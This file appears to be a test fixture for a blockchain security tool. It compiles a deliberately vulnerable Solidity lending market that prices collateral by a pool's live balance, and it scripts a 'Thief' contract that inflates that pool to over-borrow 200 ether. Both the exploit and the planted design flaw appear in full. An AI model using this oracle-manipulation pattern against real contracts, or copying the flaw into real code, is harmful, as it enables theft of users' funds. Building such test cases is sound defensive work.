import { type Abi, encodeAbiParameters, encodeFunctionData, getContractAddress, keccak256 } from 'viem'
import type { Case, CaseTransaction } from '../../src/chain/types.ts'
import { type Address, type Hex, toAddress, toWord } from '../../src/core/hex.ts'
import { compileSolidity } from './compile-solidity.ts'

/** A market that lends against units priced by whatever a pool holds at the moment, up to a cap; and a thief who fills the pool before. */
const SOURCE = `
pragma solidity ^0.8.20;
contract Pool {
  function put() external payable {}
  function take(uint256 amount) external { payable(msg.sender).transfer(amount); }
  function price() external view returns (uint256) { return address(this).balance; }
}
contract Market {
  address public owner;
  uint256 public borrowCap;
  uint64 public fee;
  uint64 public ltv;
  uint256 public borrowed;
  Pool pool;
  mapping(address => uint256) public units;
  mapping(address => uint256) public debt;
  mapping(bytes32 => mapping(address => bool)) public hasRole;
  event CapSet(uint256 before, uint256 next);
  event Noted();
  modifier onlyOwner() { require(/*trusted*/msg.sender == owner/**/, "owner"); _; }

  function enter(uint256 amount) external payable { require(msg.value == amount / 1000); units[msg.sender] += amount; }
  function borrow(uint256 amount) external {
    require(borrowed + amount <= borrowCap, "cap");
    require(debt[msg.sender] + amount <= units[msg.sender] * pool.price() / 1 ether * ltv / 10000, "collateral");
    borrowed += amount;
    debt[msg.sender] += amount;
    payable(msg.sender).transfer(amount);
  }
  function repay() external payable { debt[msg.sender] -= msg.value; borrowed -= msg.value; }
  function setBorrowCap(uint256 next) external /*guard*/onlyOwner/**/ {
    require(next >= /*low*/10 ether/**/ && next <= 1000 ether, "bounds");
    emit CapSet(borrowCap, next);
    borrowCap = next;
  }
  function setRates(uint64 nextFee, uint64 nextLtv) external onlyOwner {
    require(nextFee <= 100 && nextLtv >= /*ltv*/8000/**/ && nextLtv <= 9000, "rates");
    (fee, ltv) = (nextFee, nextLtv);
  }
  function setPool(Pool next) external onlyOwner { pool = next; }
  function note() external onlyOwner { emit Noted(); }
}
contract Front {
  constructor(address logic) { assembly { sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, logic) } }
  fallback() external payable {
    assembly {
      let logic := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)
      calldatacopy(0, 0, calldatasize())
      let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
      returndatacopy(0, 0, returndatasize())
      if iszero(ok) { revert(0, returndatasize()) }
      return(0, returndatasize())
    }
  }
}
contract Thief {
  Market immutable market;
  Pool immutable pool;
  constructor(Market m, Pool p) payable { market = m; pool = p; }
  function strike(uint256 push, uint256 amount) external {
    pool.put{value: push}();
    market.enter{value: 0.02 ether}(20 ether);
    market.borrow(amount);
    pool.take(push);
  }
  receive() external payable {}
}
`
const ETHER = 10n ** 18n
const person = (n: number): Address => toAddress(`0x${(0x9e0000 + n).toString(16).padStart(40, '0')}`)
const [ALICE, BOB, MALLORY] = [person(1), person(2), person(66)]
export const MARKET_OWNER = person(3)
export const MARKET: Address = '0x00000000000000000000000000000000000ba511'
const LOGIC: Address = '0x00000000000000000000000000000000000ba512'
const POOL: Address = '0x00000000000000000000000000000000000ba513'
const IMPLEMENTATION: Hex = '0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc'
const ROLE = 7n

export interface MarketOptions {
  /** Text to put at the marks of the source, by mark. */
  readonly replacements?: Readonly<Record<string, string>>
  /** Whether the market stands behind a proxy. */
  readonly proxied?: boolean
  /** Calls of the owner that begin the history, by name. */
  readonly ownerCalls?: readonly (readonly [name: string, ...args: bigint[]])[]
}

/** Users lend and borrow a little; then a thief fills the pool and borrows 200 ether. The cap is 500 ether, and LTV 90 %. */
export function marketCase({
  replacements = {},
  proxied = false,
  ownerCalls = [['note']],
}: MarketOptions = {}): Case {
  let source = SOURCE
  for (const [mark, text] of Object.entries(replacements)) {
    source = source.replace(new RegExp(`/\\*${mark}\\*/.*?/\\*\\*/`), text)
  }
  const { Market, Pool, Front, Thief } = compileSolidity(source, { compiler: 'solc', runs: 200 })
  const abi = Market!.abi as Abi
  const call = (from: Address, name: string, args: readonly unknown[] = [], value = 0n): CaseTransaction => ({
    from,
    to: MARKET,
    data: encodeFunctionData({ abi, functionName: name, args }),
    value,
    gas: 1_000_000n,
  })
  const account = (balance: bigint, code: Hex = '0x', storage: Readonly<Record<Hex, Hex>> = {}) => ({
    balance,
    nonce: code === '0x' ? 0n : 1n,
    code,
    storage,
  })
  const thief = toAddress(getContractAddress({ from: MALLORY, nonce: 0n }))
  const argument = encodeAbiParameters([{ type: 'address' }, { type: 'address' }], [MARKET, POOL]).slice(2)
  const inner = keccak256(`0x${toWord(1n).slice(2)}${toWord(ROLE).slice(2)}`)
  const storage: Record<Hex, Hex> = {
    [toWord(0n)]: toWord(BigInt(MARKET_OWNER)),
    [toWord(1n)]: toWord(500n * ETHER),
    [toWord(2n)]: toWord((9_000n << 64n) | 30n),
    [toWord(4n)]: toWord(BigInt(POOL)),
    [keccak256(`0x${toWord(BigInt(MARKET_OWNER)).slice(2)}${inner.slice(2)}`)]: toWord(1n),
    ...(proxied ? { [IMPLEMENTATION]: toWord(BigInt(LOGIC)) } : {}),
  }
  return {
    name: 'market',
    chainId: 1,
    hardfork: 'cancun',
    block: {
      number: 20_000_000n,
      timestamp: 1_720_000_000n,
      baseFeePerGas: 0n,
      gasLimit: 30_000_000n,
      coinbase: person(99),
      prevRandao: `0x${'07'.repeat(32)}`,
    },
    alloc: {
      [MARKET]: account(300n * ETHER, proxied ? Front!.runtime : Market!.runtime, storage),
      ...(proxied ? { [LOGIC]: account(0n, Market!.runtime) } : {}),
      [POOL]: account(ETHER, Pool!.runtime),
      ...Object.fromEntries([ALICE, BOB, MARKET_OWNER, MALLORY].map((who) => [who, account(1_000n * ETHER)])),
    },
    protected: [MARKET],
    history: [
      ...ownerCalls.map(([name, ...args]) => call(MARKET_OWNER, name, args)),
      call(ALICE, 'enter', [10n * ETHER], ETHER / 100n),
      call(ALICE, 'borrow', [5n * ETHER]),
      call(BOB, 'enter', [4n * ETHER], ETHER / 250n),
      call(BOB, 'borrow', [3n * ETHER]),
      call(ALICE, 'repay', [], 2n * ETHER),
    ],
    attack: [
      {
        from: MALLORY,
        to: null,
        data: `${Thief!.creation}${argument}`,
        value: 100n * ETHER,
        gas: 3_000_000n,
      },
      {
        from: MALLORY,
        to: thief,
        data: encodeFunctionData({
          abi: Thief!.abi as Abi,
          functionName: 'strike',
          args: [50n * ETHER, 200n * ETHER],
        }),
        value: 0n,
        gas: 5_000_000n,
      },
    ],
  }
}
